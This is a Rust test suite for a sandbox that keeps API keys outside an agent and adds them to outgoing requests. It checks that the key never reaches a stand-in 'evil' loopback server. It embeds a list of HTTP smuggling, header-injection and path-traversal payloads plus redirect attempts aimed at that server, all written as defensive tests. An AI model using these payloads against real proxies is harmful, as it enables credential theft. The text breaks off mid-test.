//! Secrets that an agent uses and does not have: what goes to the one host, what does not, and where the value is not.
//!
//! The servers are the tests' own, on loopback, with certificates of the tests' own authority.

use std::collections::BTreeMap;
use std::fs;
use std::io::{Read, Seek, SeekFrom};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};

use serde_json::Value;

use super::{LIMIT, Store, audit, begin, err, good, until};
use crate::common::{binary, describe, need_mount, need_root, need_tools, repository, run_limited};

/// The key of the tests, as a caller has it in a variable.
const KEY: &str = "sk-5ecret-of-the-tests-0123456789";

/// Servers and their certificates. `good` is trusted; `foreign` is of another authority, `misnamed` of another host.
struct Servers {
    dir: PathBuf,
    running: Vec<Child>,
}

impl Servers {
    fn new(store: &Store, names: &[&str]) -> Servers {
        let dir = store.base.join("servers");
        fs::create_dir(&dir).unwrap();
        let script = "
            authority() { openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout $1.key -out $1.pem -subj /CN=$1 -days 2; }
            certificate() {
                openssl req -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout $1.key -out $1.csr -subj /CN=$1
                printf 'subjectAltName=%s\\nbasicConstraints=CA:FALSE\\n' $3 >$1.names
                openssl x509 -req -in $1.csr -CA $2.pem -CAkey $2.key -CAcreateserial -days 2 -extfile $1.names -out $1.pem
            }
            set -e
            authority ca; authority other
            certificate good ca IP:127.0.0.1; certificate evil ca IP:127.0.0.1
            certificate foreign other IP:127.0.0.1; certificate misnamed ca DNS:elsewhere.example";
        let mut make = Command::new("bash");
        make.args(["-c", script]).current_dir(&dir);
        let made = run_limited(make, LIMIT);
        assert!(made.status.success(), "{}", describe(&made));
        let mut servers = Servers {
            dir,
            running: Vec::new(),
        };
        for name in names {
            let mut command = Command::new("python3");
            command.arg(script_of("secret_server.py")).arg(&servers.dir);
            command.arg(servers.dir.join(name)).arg(name);
            servers.running.push(begin(command));
        }
        for name in names {
            let port = servers.dir.join(format!("{name}.port"));
            until("the server listens", || port.exists());
        }
        servers
    }

    fn port(&self, name: &str) -> String {
        fs::read_to_string(self.dir.join(format!("{name}.port"))).unwrap()
    }

    /// Returns what a server was asked.
    fn requests(&self, name: &str) -> Vec<Value> {
        let text = fs::read_to_string(self.dir.join(format!("{name}.requests"))).unwrap();
        text.lines()
            .map(|line| serde_json::from_str(line).unwrap())
            .collect()
    }

    /// `trumanfs agent` with options, for a script, by a caller who has the key and trusts the servers.
    fn agent(&self, store: &Store, options: &[&str], script: &str) -> Command {
        let mut command = Command::new(binary());
        command.arg("agent").arg("--store").arg(&store.store);
        command.args(options).args(["--", "bash", "-c", script]);
        command.env("SSL_CERT_FILE", self.dir.join("ca.pem"));
        command.env_remove("SSL_CERT_DIR").env("KEY", KEY);
        command
    }

    fn run(&self, store: &Store, options: &[&str], script: &str) -> Output {
        run_limited(self.agent(store, options, script), LIMIT)
    }

    /// The option for a secret of a server.
    fn secret(&self, what: &str, name: &str) -> String {
        format!("--secret={what}:127.0.0.1:{}=env:KEY", self.port(name))
    }
}

impl Drop for Servers {
    fn drop(&mut self) {
        for server in &mut self.running {
            let _ = server.kill();
            let _ = server.wait();
        }
    }
}

fn script_of(name: &str) -> PathBuf {
    repository().join("tests/sandbox/run").join(name)
}

/// Returns the fields of a request that may have a secret.
fn credentials(request: &Value) -> BTreeMap<&str, &Value> {
    let fields = ["Authorization", "x-api-key", "x-goog-api-key", "X-Key"];
    let found = fields
        .into_iter()
        .filter_map(|name| Some((name, request.get(name)?)));
    found.collect()
}

/// Returns the files below a directory that have these bytes.
fn files_with(dir: &Path, bytes: &[u8]) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for entry in fs::read_dir(dir).unwrap().flatten() {
        let (path, kind) = (entry.path(), entry.file_type().unwrap());
        if kind.is_dir() {
            found.extend(files_with(&path, bytes));
        } else if kind.is_file() && has(&fs::read(&path).unwrap(), bytes) {
            found.push(path);
        }
    }
    found
}

fn has(text: &[u8], bytes: &[u8]) -> bool {
    memchr::memmem::find(text, bytes).is_some()
}

/// The lines of the audit log about requests with a secret.
fn requests_in_audit(store: &Store) -> Vec<Value> {
    let lines = audit(&store.store).into_iter();
    lines.filter(|line| line["by"] == "secret").collect()
}

/// The first event is with the agent before the second one is sent, and the key with the server alone.
#[test]
fn agent_is_streamed_to_by_its_model_and_has_no_key() {
    need_mount!();
    need_tools!("python3", "openssl");
    let store = Store::new();
    let servers = Servers::new(&store, &["good"]);
    fs::copy(script_of("secret_agent.py"), store.store.join("agent.py")).unwrap();
    let secret = servers.secret("anthropic", "good");
    let command = servers.agent(&store, &[&secret], "python3 agent.py && env >environment");
    let child = begin(command);
    until("the first event comes", || {
        store.store.join("first").exists()
    });
    assert!(!store.store.join("second").exists());
    fs::write(servers.dir.join("go"), "").unwrap();
    let output = child.wait_with_output().unwrap();
    assert!(output.status.success(), "{}", describe(&output));
    let key = fs::read_to_string(store.store.join("second")).unwrap();
    assert_eq!(key, "the-secret-is-added-outside-the-sandbox");
    let asked = servers.requests("good");
    assert_eq!(asked.len(), 1, "{asked:?}");
    assert_eq!(
        credentials(&asked[0]),
        [("x-api-key", &Value::from(vec![KEY]))].into()
    );
    assert_eq!(asked[0]["path"], "/v1/messages?beta=true");
    let lines = requests_in_audit(&store);
    let line = &lines[0];
    assert_eq!(
        (&line["method"], &line["path"]),
        (&"POST".into(), &"/v1/messages".into())
    );
    assert_eq!(
        (&line["status"], &line["verdict"]),
        (&200.into(), &"allow".into())
    );
    assert_eq!(
        (&line["secret"], &line["rule"]),
        (&"anthropic".into(), &"--secret anthropic".into())
    );
    assert!(
        line["bytes_sent"].as_u64().unwrap() > 100 && line["bytes_received"].as_u64().unwrap() > 50
    );
    assert_eq!(
        files_with(&store.store, KEY.as_bytes()),
        [""; 0].map(PathBuf::from)
    );
    assert!(!files_with(&store.store, b"/v1/messages").is_empty());
}

/// A program that leaves in the middle of an answer ends the request: a model need not go on for nobody.
#[test]
fn request_of_a_program_that_left_ends() {
    need_mount!();
    need_tools!("python3", "openssl", "curl");
    let store = Store::new();
    let servers = Servers::new(&store, &["good"]);
    let secret = servers.secret("anthropic", "good");
    let script =
        "curl -sSN -m20 -d '{\"stream\": true}' $ANTHROPIC_BASE_URL/v1/messages >got & ask=$!
        until [ -s got ]; do sleep 0.01; done; kill $ask
        until [ -e done ]; do sleep 0.01; done";
    let child = begin(servers.agent(&store, &[&secret], script));
    until("the server is left", || servers.dir.join("left").exists());
    fs::write(store.store.join("done"), "").unwrap();
    let output = child.wait_with_output().unwrap();
    assert!(output.status.success(), "{}", describe(&output));
    assert_eq!(requests_in_audit(&store)[0]["reason"], "it has left");
}

/// What a process has in its memory, its variables and its arguments.
fn holds(pid: &str, bytes: &[u8]) -> bool {
    let proc = Path::new("/proc").join(pid);
    let text = |name: &str| fs::read(proc.join(name)).unwrap_or_default();
    if has(&text("environ"), bytes) || has(&text("cmdline"), bytes) {
        return true;
    }
    let Ok(mut memory) = fs::File::open(proc.join("mem")) else {
        return false;
    };
    let maps = String::from_utf8(text("maps")).unwrap();
    let ranges = maps
        .lines()
        .filter_map(|line| line.split(' ').next()?.split_once('-'));
    let mut block = vec![0; 4 << 20];
    for (from, to) in ranges {
        let [mut from, to] = [from, to].map(|at| u64::from_str_radix(at, 16).unwrap());
        while from < to {
            let len = block.len().min(usize::try_from(to - from).unwrap());
            if memory.seek(SeekFrom::Start(from)).is_err() {
                break;
            }
            let Ok(read) = memory.read(&mut block[..len]) else {
                break;
            };
            if has(&block[..read], bytes) {
                return true;
            }
            // A text may lie across two blocks.
            let step = if read == len && len > bytes.len() && from + (len as u64) < to {
                len - bytes.len()
            } else {
                read
            };
            if step == 0 {
                break;
            }
            from += step as u64;
        }
    }
    false
}

/// A dump of all processes in the sandbox has no secret; the same search finds a marker there, and the secret outside.
#[test]
fn memory_of_everything_inside_has_no_secret() {
    need_mount!();
    need_root!("to read the memory of the sandbox's first process");
    need_tools!("python3", "openssl", "curl");
    let store = Store::new();
    let servers = Servers::new(&store, &["good"]);
    let marker = "marker-in-the-memory-of-the-agent";
    let script = "sleep 1000 & curl -sS -m20 -d x $ANTHROPIC_BASE_URL/v1/messages >got
        curl -sS -m20 $OWN_BASE_URL/refused >refused
        python3 -c 'import os, time
kept = \"-\".join([\"marker\", \"in-the-memory-of-the-agent\"])
open(\"ready\", \"w\")
while not os.path.exists(\"done\"): time.sleep(0.01)'; kill %1";
    let [secret, own] = [
        servers.secret("anthropic", "good"),
        servers.secret("own", "good"),
    ];
    let child = begin(servers.agent(&store, &[&secret, &own], script));
    until("the agent is there", || store.store.join("ready").exists());
    assert!(
        fs::read_to_string(store.store.join("got"))
            .unwrap()
            .starts_with("got 1 ")
    );
    let processes: Vec<String> = fs::read_dir("/proc")
        .unwrap()
        .filter_map(|entry| entry.ok()?.file_name().into_string().ok())
        .filter(|name| name.bytes().all(|byte| byte.is_ascii_digit()))
        .collect();
    let namespace = |pid: &str| fs::read_link(format!("/proc/{pid}/ns/pid")).ok();
    let cwd = |pid: &str| fs::read_link(format!("/proc/{pid}/cwd")).ok();
    let agent = processes
        .iter()
        .find(|pid| cwd(pid).as_ref() == Some(&store.store) && namespace(pid) != namespace("self"));
    let agent = agent.expect("a process of the agent");
    let inside: Vec<_> = processes
        .iter()
        .filter(|pid| namespace(pid) == namespace(agent))
        .collect();
    // The first process, bash, sleep and Python.
    assert!(inside.len() >= 4, "{inside:?}");
    let with = |bytes: &str| {
        inside
            .iter()
            .filter(|pid| holds(pid, bytes.as_bytes()))
            .count()
    };
    let counts = (
        with(KEY),
        with(marker),
        holds(&child.id().to_string(), KEY.as_bytes()),
    );
    fs::write(store.store.join("done"), "").unwrap();
    let output = child.wait_with_output().unwrap();
    assert!(output.status.success(), "{}", describe(&output));
    assert_eq!(counts, (0, 1, true));
}

/// A redirect goes to the program as it is. Who follows it does so without the secret.
#[test]
fn redirect_is_followed_by_nobody_with_the_secret() {
    need_mount!();
    need_tools!("python3", "openssl", "curl");
    let store = Store::new();
    let servers = Servers::new(&store, &["good", "evil"]);
    let evil = format!("127.0.0.1:{}", servers.port("evil"));
    let secret = servers.secret("own", "good");
    let ask = format!(
        "curl -sS -m20 -o /dev/null -w '%{{http_code}} %{{redirect_url}}\\n' \"$OWN_BASE_URL/away?to=https://{evil}/x\"
         curl -sSL -m20 \"$OWN_BASE_URL/away?to=/here\""
    );
    let said = good(&servers.run(&store, &[&secret, "--net", "none"], &ask));
    let mut lines = said.lines();
    assert_eq!(lines.next(), Some(&*format!("302 https://{evil}/x")));
    assert!(lines.next().unwrap().starts_with("got 0 "), "{said}");
    // By the proxy, so that the address is not the sandbox's own.
    let follow = format!(
        "curl -sSkL -m20 --noproxy none.example -x http://127.0.0.1:3128 \"$OWN_BASE_URL/away?to=https://{evil}/x\""
    );
    let output = servers.run(&store, &[&secret, "--net", "none"], &follow);
    assert!(
        err(&output).contains(&format!("{evil} is refused by")),
        "{}",
        describe(&output)
    );
    assert_eq!(servers.requests("evil"), [] as [Value; 0]);
    let allow = format!("--net=allow={evil}");
    let said = good(&servers.run(&store, &[&secret, &allow], &follow));
    assert!(said.starts_with("got 0 "), "{said}");
    let asked = servers.requests("evil");
    assert_eq!(
        (asked.len(), credentials(&asked[0])),
        (1, [].into()),
        "{asked:?}"
    );
    let bearer = Value::from(vec![format!("Bearer {KEY}")]);
    for request in servers.requests("good") {
        assert_eq!(
            credentials(&request),
            [("Authorization", &bearer)].into(),
            "{request}"
        );
    }
}

/// Requests by which a program might have the secret sent elsewhere, or past `--only`.
const ATTACKS: &str = r#"
import os, socket, urllib.parse
port = urllib.parse.urlsplit(os.environ["ANTHROPIC_BASE_URL"]).port
good = "POST /v1/messages HTTP/1.1\r\nHost: a\r\n"
EVIL = os.environ["EVIL"]
other = f"DELETE /v1/files HTTP/1.1\r\nHost: {EVIL}\r\n\r\n"
for name, text in {
    "plain": good + "Content-Length: 2\r\n\r\nok",
    "host": f"POST /v1/messages HTTP/1.1\r\nHost: {EVIL}\r\nX-Forwarded-Host: {EVIL}\r\n\r\n",
    "two hosts": good + f"Host: {EVIL}\r\n\r\n",
    "own key": good + "X-Api-Key: own\r\nx_api_key: own\r\nAuthorization: Bearer own\r\n\r\n",
    "connection": good + "Connection: x-api-key, host\r\nUpgrade: h2c\r\nHTTP2-Settings: AAAA\r\n\r\n",
    "method": good + "X-HTTP-Method-Override: DELETE\r\n\r\n",
    "pipelined": good + "\r\n" + other,
    "pipelined behind a body": good + "Content-Length: 2\r\n\r\nok" + other,
    "pipelined behind chunks": good + "Transfer-Encoding: chunked\r\n\r\n2\r\nok\r\n0\r\n\r\n" + other,
    "absolute": f"POST https://{EVIL}/v1/messages HTTP/1.1\r\nHost: a\r\n\r\n",
    "absolute without TLS": f"POST http://{EVIL}/v1/messages HTTP/1.1\r\nHost: a\r\n\r\n",
    "authority": f"CONNECT {EVIL} HTTP/1.1\r\nHost: {EVIL}\r\n\r\n",
    "two lengths": good + "Content-Length: 2\r\nContent-Length: 80\r\n\r\nok" + other,
    "length and chunks": good + "Content-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + other,
    "another encoding": good + "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + other,
    "blank before the colon": good + "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + other,
    "line feed": good + "X: a\nx-api-key: own\r\n\r\n",
    "line feed in the target": "POST /v1/messages\nX:y HTTP/1.1\r\nHost: a\r\n\r\n",
    "carriage return": good + "X: a\rx-api-key: own\r\n\r\n",
    "folded": good + "X: a\r\n x-api-key: own\r\n\r\n",
    "trailer": good + "Transfer-Encoding: chunked\r\n\r\n2\r\nok\r\n0\r\nx-api-key: own\r\n\r\n",
    "HTTP/2": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "HTTP/0.9": "GET /v1/models\r\n\r\n",
    "method not listed": "DELETE /v1/messages HTTP/1.1\r\nHost: a\r\n\r\n",
    **{path: f"POST {path} HTTP/1.1\r\nHost: a\r\n\r\n" for path in (
        "/v1/files", "//v1/messages", "/v1//messages", "/v1/./messages", "/v1/messages/../files", "/x/../v1/messages",
        "/v1/messages%2f..%2ffiles", "/v1/%6dessages", "/v1/messages/", "/v1/messages;x", "/v1/messages%00",
        "/v1/messages#x", "/v1\\messages", "/V1/messages", "*", "v1/messages", "?/v1/messages", "/v1/files?/v1/messages")},
}.items():
    s = socket.create_connection(("127.0.0.1", port), timeout=20)
    s.sendall(text.encode())
    got = b""
    try:
        while piece := s.recv(4096): got += piece
    except ConnectionResetError:
        pass
    print(f"{name}: {got[9:12].decode()} {got.count(b'HTTP/1.1 ')}")
"#;

#[test]
fn no_request_leads_the_secret_elsewhere() {
    need_mount!();
    need_tools!("python3", "openssl");
    let store = Store::new();
    let servers = Servers::new(&store, &["good", "evil"]);
    fs::write(store.base.join("attacks.py"), ATTACKS).unwrap();
    let attacks = store.base.join("attacks.py").display().to_string();
    let evil = format!("EVIL=127.0.0.1:{}", servers.port("evil"));
    let secret = servers.secret("anthropic", "good");
    let options = [
        &*secret,
        "--only",
        "POST /v1/messages",
        "--env",
        &evil,
        "--bind-ro",
        &attacks,
    ];
    let output = servers.run(&store, &options, &format!("python3 {attacks}"));
    let said = good(&output);
    let mut answers: BTreeMap<&str, Vec<&str>> = BTreeMap::new();
    for line in said.lines() {
        let (name, answer) = line.rsplit_once(": ").unwrap();
        answers.entry(answer).or_default().push(name);
    }
    // One answer for each, whatever stood behind the first request.
    let passed = [
        "plain",
        "host",
        "two hosts",
        "own key",
        "connection",
        "method",
        "pipelined",
        "pipelined behind a body",
        "pipelined behind chunks",
    ];
    assert_eq!(answers["200 1"], passed, "{said}");
    let known = ["200 1", "400 1", "403 1"];
    assert!(
        answers.keys().all(|answer| known.contains(answer)),
        "{said}"
    );
    assert_eq!(answers.values().map(Vec::len).sum::<usize>(), 42, "{said}");
    let here = Value::from(vec![format!("127.0.0.1:{}", servers.port("good"))]);
    let asked = servers.requests("good");
    for request in &asked {
        assert_eq!(
            credentials(request),
            [("x-api-key", &Value::from(vec![KEY]))].into()
        );
        let (method, path, host) = (&request["method"], &request["path"], &request["host"]);
        assert_eq!(
            (method, path, host),
            (&"POST".into(), &"/v1/messages".into(), &here)
        );
    }
    assert_eq!(asked.len(), passed.len(), "{asked:?}");
    assert_eq!(servers.requests("evil"), [] as [Value; 0]);
    // Each has a line, and those of a rule are in the summary.
    let lines = requests_in_audit(&store);
    assert_eq!(lines.len(), 42);
    let refused = lines
        .iter()
        .filter(|line| line["event"] == "connection_refused");
    assert_eq!(refused.count(), 42 - passed.len());
    let why = err(&output);
    assert!(
        why.contains("is refused by --only: POST /v1/files: with the secret anthropic only"),
        "{why}"
    );
    assert!(
        lines
            .iter()
            .all(|line| !line["path"].to_string().contains('?'))
    );
}

/// What is kept back of an agent's requests is what the service's file does not list, unless it says otherwise.
#[test]
fn requests_are_limited_as_said_and_a_service_has_limits_of_its_own() {
    need_mount!();
    need_tools!("python3", "openssl", "curl");
    let store = Store::new();
    let servers = Servers::new(&store, &["good"]);
    let [anthropic, openai] = ["anthropic", "openai"].map(|name| servers.secret(name, "good"));
    let own = servers.secret("my-own", "good");
    let code = "code() { curl -sS -m20 -o /dev/null -w '%{http_code} ' \"$@\"; }";
    let script = format!(
        "{code}; code -d x $ANTHROPIC_BASE_URL/v1/messages; code -d x $ANTHROPIC_BASE_URL/v1/files
         code $OPENAI_BASE_URL/models; code -X DELETE $OPENAI_BASE_URL/models/x
         code -d x $MY_OWN_BASE_URL/any; code -X DELETE $MY_OWN_BASE_URL/any"
    );
    let said = good(&servers.run(&store, &[&anthropic, &openai, &own], &script));
    assert_eq!(said, "200 403 200 403 200 200 ");
    let mut options = vec![&*anthropic, &openai, &own];
    options.extend(["--only", "openai * /v1/**", "--only", "my-own POST /any"]);
    let said = good(&servers.run(&store, &options, &script));
    assert_eq!(said, "200 403 200 200 200 403 ");
    let out = err(&servers.run(&store, &[&anthropic, &own, "--only", "GET /"], "echo >ran"));
    assert!(
        out.contains("which secret is limited is not clear"),
        "{out}"
    );
    let out = err(&servers.run(&store, &[&anthropic, "--only", "own GET /"], "echo >ran"));
    assert!(out.contains("there is no --secret own"), "{out}");
    assert!(!store.store.join("ran").exists());
}

/// Two secrets of one agent, and those of two agents at once, come to their own servers alone.
#[test]
fn secrets_of_two_agents_are_not_mixed() {
    need_mount!();
    need_tools!("python3", "openssl", "curl");
    let (one, two) = (Store::new(), Store::new());
    let servers = Servers::new(&one, &["good", "evil"]);
    let script = "for n in $(seq 10); do
            curl -sS -m20 -d x $ANTHROPIC_BASE_URL/v1/messages; curl -sS -m20 $OWN_BASE_URL/own
        done >got; touch ready; until [ -e go ]; do sleep 0.01; done; curl -sS -m20 -d x $ANTHROPIC_BASE_URL/v1/messages";
    let agents = [(&one, "first"), (&two, "second")].map(|(store, whose)| {
        let [good, evil] = ["good", "evil"].map(|name| servers.port(name));
        let options = [
            format!("--secret=anthropic:127.0.0.1:{good}=env:MODEL"),
            format!("--secret=own:127.0.0.1:{evil}:X-Key=env:OWN"),
        ];
        let mut command = servers.agent(store, &[&options[0], &options[1]], script);
        command
            .env("MODEL", format!("model-key-{whose}"))
            .env("OWN", format!("own-key-{whose}"));
        begin(command)
    });
    for store in [&one, &two] {
        until("both ask", || store.store.join("ready").exists());
    }
    for store in [&one, &two] {
        fs::write(store.store.join("go"), "").unwrap();
    }
    for agent in agents {
        assert!(agent.wait_with_output().unwrap().status.success());
    }
    for (server, field, key, each) in [
        ("good", "x-api-key", "model-key", 11),
        ("evil", "X-Key", "own-key", 10),
    ] {
        let asked = servers.requests(server);
        for whose in ["first", "second"] {
            let own = Value::from(vec![format!("{key}-{whose}")]);
            let count = asked
                .iter()
                .filter(|request| credentials(request) == [(field, &own)].into())
                .count();
            assert_eq!(count, each, "{server} {whose}");
        }
        assert_eq!(asked.len(), 2 * each);
    }
}

/// A server that this machine does not trust gets no request.
#[test]
fn server_that_is_not_verified_gets_nothing() {
    need_mount!();
    need_tools!("python3", "openssl", "curl");
    let store = Store::new();
    let servers = Servers::new(&store, &["good", "foreign", "misnamed"]);
    for (name, why) in [
        ("foreign", "UnknownIssuer"),
        ("misnamed", "not valid for name"),
    ] {
        let script = "curl -sS -m20 -w '%{http_code}' $OWN_BASE_URL/x";
        let output = servers.run(&store, &[&servers.secret("own", name)], script);
        let said = good(&output);
        assert!(said.contains(why) && said.ends_with("502"), "{said}");
        assert!(
            err(&output).contains("no TLS with 127.0.0.1"),
            "{}",
            err(&output)
        );
        assert_eq!(servers.requests(name), [] as [Value; 0]);
    }
    // Without any trust, nothing runs.
    let mut command = servers.agent(&store, &[&servers.secret("own", "good")], "echo >ran");
    let empty = servers.dir.join("empty.pem");
    fs::write(&empty, "").unwrap();
    command.env("SSL_CERT_FILE", &empty);
    let output = run_limited(command, LIMIT);
    assert_eq!(output.status.code(), Some(123), "{}", describe(&output));
    assert!(
        err(&output).contains("trusts no certificate"),
        "{}",
        err(&output)
    );
    assert!(!store.store.join("ran").exists());
    // Nor does TLS make a service out of what has none.
    let plain = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = plain.local_addr().unwrap().port();
    let answering = std::thread::spawn(move || {
        let (mut client, _) = plain.accept().unwrap();
        let mut got = vec![0; 4096];
        let len = client.read(&mut got).unwrap();
        std::io::Write::write_all(&mut client, b"HTTP/1.1 200 OK\r\n\r\n").unwrap();
        got.truncate(len);
        got
    });
    let secret = format!("--secret=own:127.0.0.1:{port}=env:KEY");
    let output = servers.run(
        &store,
        &[&secret],
        "curl -sS -m20 -w '%{http_code}' $OWN_BASE_URL/x",
    );
    assert!(good(&output).ends_with("502"), "{}", describe(&output));
    assert!(!has(&answering.join().unwrap(), KEY.as_bytes()));
}

/// What cannot be read is named before anything starts, and nothing of it is printed.
#[test]
fn secret_that_cannot_be_read_is_named_and_nothing_runs() {
    need_mount!();
    need_tools!("openssl");
    let store = Store::new();
    let base = store.base.display();
    for (name, text) in [
        ("empty", ""),
        ("lines", "the-key\nof-two-lines"),
        ("short", "x\n"),
    ] {
        fs::write(store.base.join(name), text).unwrap();
    }
    for (option, named) in [
        (
            "anthropic".to_owned(),
            "anthropic=env:ANTHROPIC_API_KEY: the variable is not set",
        ),
        (
            "own:a.example=env:NOT_SET".to_owned(),
            "env:NOT_SET: the variable is not set",
        ),
        (format!("own:a.example=file:{base}/missing"), "No such file"),
        (
            format!("own:a.example=file:{base}"),
            "it is no regular file",
        ),
        (format!("own:a.example=file:{base}/empty"), "it is empty"),
        (
            format!("own:a.example=file:{base}/lines"),
            "it has a line break",
        ),
        (
            format!("own:a.example=file:{base}/short"),
            "it has 1 bytes; a secret has 8 or more",
        ),
        (
            "own:a.example=file:/dev/zero".to_owned(),
            "it is no regular file",
        ),
        (
            "own:a.example=cmd:exit 3".to_owned(),
            "the command failed: exit status: 3",
        ),
        ("own:a.example=cmd:true".to_owned(), "it is empty"),
        ("own:a.example=cmd:yes".to_owned(), "bytes"),
    ] {
        let output = bare_agent(&store, &["--secret", &option]);
        assert_eq!(
            output.status.code(),
            Some(123),
            "{option}: {}",
            describe(&output)
        );
        assert!(err(&output).contains(named), "{option}: {}", err(&output));
        assert!(!err(&output).contains("of-two-lines"), "{}", err(&output));
    }
    for (option, named) in [
        ("own=env:KEY", "give its host"),
        ("anthropic=sk-the-value", "a value is never an argument"),
        ("sk-the-value-0123", "is none of anthropic, gemini, openai"),
        ("own:a.example:Host=env:KEY", "writes itself"),
    ] {
        let output = bare_agent(&store, &["--secret", option]);
        assert_eq!(
            output.status.code(),
            Some(123),
            "{option}: {}",
            describe(&output)
        );
        assert!(err(&output).contains(named), "{option}: {}", err(&output));
        assert!(!err(&output).contains("the-value"), "{}", err(&output));
    }
    let weak = [
        "--sandbox",
        "weak",
        "--home",
        "fork",
        "--secret",
        "own:a.example=env:KEY",
    ];
    assert!(
        err(&bare_agent(&store, &weak))
            .contains("--secret cannot be used with --sandbox weak or none")
    );
    let twice = [
        "--secret",
        "own:a.example=env:KEY",
        "--secret",
        "own:b.example=env:KEY",
    ];
    assert!(err(&bare_agent(&store, &twice)).contains("own is there twice"));
    assert!(!store.store.join("ran").exists() && !store.store.join(".trumanfs").exists());
}

/// Returns a certificate that a caller trusts, on machines that trust none themselves.
fn trusted(store: &Store) -> PathBuf {
    let file = store.base.join("trusted.pem");
    if !file.exists() {
        let mut make = Command::new("openssl");
        make.args([
            "req",
            "-x509",
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:prime256v1",
        ]);
        make.args([
            "-nodes",
            "-subj",
            "/CN=any",
            "-days",
            "2",
            "-keyout",
            "/dev/null",
            "-out",
        ]);
        make.arg(&file);
        let made = run_limited(make, LIMIT);
        assert!(made.status.success(), "{}", describe(&made));
    }
    file
}

/// An agent without servers, by a caller who has the key.
fn bare_agent(store: &Store, options: &[&str]) -> Output {
    let mut command = Command::new(binary());
    command
        .arg("agent")
        .arg("--store")
        .arg(&store.store)
        .args(options);
    command.args(["--", "bash", "-c", "echo >ran"]);
    command.env("KEY", KEY).env_remove("ANTHROPIC_API_KEY");
    command.env("SSL_CERT_FILE", trusted(store));
    run_limited(command, LIMIT)
}

/// The value is not in what the agent sees by another way.
#[test]
fn secret_that_the_agent_sees_is_refused() {
    need_mount!();
    need_tools!("openssl");
    let store = Store::new();
    let inside = store.store.join("key");
    let shown = store.base.join("shown");
    let also = store.base.join("also");
    let outside = store.base.join("outside");
    for dir in [&shown, &also, &outside] {
        fs::create_dir(dir).unwrap();
        fs::write(dir.join("key"), KEY).unwrap();
    }
    fs::write(&inside, KEY).unwrap();
    fs::write(store.base.join("key"), KEY).unwrap();
    // A link there may have been made by an agent, whatever it leads to.
    std::os::unix::fs::symlink(outside.join("key"), store.store.join("link")).unwrap();
    std::os::unix::fs::symlink(&outside, store.store.join("dir")).unwrap();
    std::os::unix::fs::symlink(&inside, outside.join("in")).unwrap();
    let (bind, also_dir) = (shown.display().to_string(), also.display().to_string());
    let file = |path: &Path| format!("own:a.example=file:{}", path.display());
    for (path, more) in [
        (inside.clone(), None),
        (store.store.join("link"), None),
        (store.store.join("dir/key"), None),
        (store.store.join("dir/../key"), None),
        (outside.join("in"), None),
        (shown.join("key"), Some(["--bind-ro", &bind])),
        (also.join("key"), Some(["--also", &also_dir])),
    ] {
        let secret = file(&path);
        let mut options = vec!["--secret", &secret];
        options.extend(more.into_iter().flatten());
        let output = bare_agent(&store, &options);
        assert_eq!(
            output.status.code(),
            Some(123),
            "{path:?}: {}",
            describe(&output)
        );
        assert!(
            err(&output).contains("the agent sees it, for it lies in"),
            "{}",
            err(&output)
        );
    }
    let value = format!("X=prefix{KEY}");
    for options in [["--env", "KEY"], ["--env", &value]] {
        let output = bare_agent(
            &store,
            &[&["--secret", "own:a.example=env:KEY"][..], &options].concat(),
        );
        assert_eq!(output.status.code(), Some(123), "{}", describe(&output));
        assert!(
            err(&output).contains("has the value") && !err(&output).contains(KEY),
            "{}",
            err(&output)
        );
    }
    assert!(!store.store.join("ran").exists());
    let output = bare_agent(
        &store,
        &[
            "--secret",
            &file(&store.store.join("../outside/key")),
            "--net",
            "none",
        ],
    );
    assert!(output.status.success(), "{}", describe(&output));
}

/// All sources have the same value; the line break at the end of a file or an output is none of it.
#[test]
fn secret_comes_from_a_variable_a_file_or_a_command() {
    need_mount!();
    need_tools!("python3", "openssl", "curl");
    let store = Store::new();
    let servers = Servers::new(&store, &["good"]);
    let file = store.base.join("key");
    fs::write(&file, format!("{KEY}\n")).unwrap();
    let port = servers.port("good");
    let value =
        |field: &str, text: String| BTreeMap::from([(field.to_owned(), Value::from(vec![text]))]);
    for (option, name, wanted) in [
        (
            format!("own:localhost:{port}:X-Key=file:{}", file.display()),
            "OWN",
            value("X-Key", KEY.to_owned()),
        ),
        (
            format!(
                "own:127.0.0.1:{port}:Authorization token=cmd:cat {}; echo asked >&2",
                file.display()
            ),
            "OWN",
            value("Authorization", format!("token {KEY}")),
        ),
        (
            format!("openai:127.0.0.1:{port}"),
            "OPENAI",
            value("Authorization", format!("Bearer {KEY}")),
        ),
        (
            format!("gemini:127.0.0.1:{port}"),
            "GOOGLE_GEMINI",
            value("x-goog-api-key", KEY.to_owned()),
        ),
    ] {
        let script = format!(
            "curl -sS -m20 -o /dev/null -w '%{{http_code}}' \"${{{name}_BASE_URL%/v1}}/v1/models\""
        );
        let mut command = servers.agent(
            &store,
            &["--secret", &option, "--only", "GET /v1/models"],
            &script,
        );
        command
            .env("OPENAI_API_KEY", KEY)
            .env("GEMINI_API_KEY", KEY);
        let output = run_limited(command, LIMIT);
        assert_eq!(good(&output), "200", "{option}: {}", describe(&output));
        assert_eq!(err(&output).contains("asked"), option.contains("cmd:"));
        let asked = servers.requests("good").pop().unwrap();
        let has: BTreeMap<String, Value> = credentials(&asked)
            .into_iter()
            .map(|(name, value)| (name.to_owned(), value.clone()))
            .collect();
        assert_eq!(has, wanted, "{option}");
    }
}

/// A server that answers with the key, with an end in the middle or with a refusal is not what the agent takes it for.
#[test]
fn answer_with_the_secret_is_cut_and_a_refused_secret_is_named() {
    need_mount!();
    need_tools!("python3", "openssl", "curl");
    let store = Store::new();
    let servers = Servers::new(&store, &["good"]);
    let secret = format!(
        "--secret=own:127.0.0.1:{}:x-api-key=env:KEY",
        servers.port("good")
    );
    let script = "curl -sS -m20 -o echoed $OWN_BASE_URL/echo || echo $? >code
        curl -sS -m20 $OWN_BASE_URL/refused -w '%{http_code}' -o refused
        curl -sS -m20 -o cut $OWN_BASE_URL/cut || echo cut >>code
        curl -sS -m10 -o end $OWN_BASE_URL/end && echo end >>code";
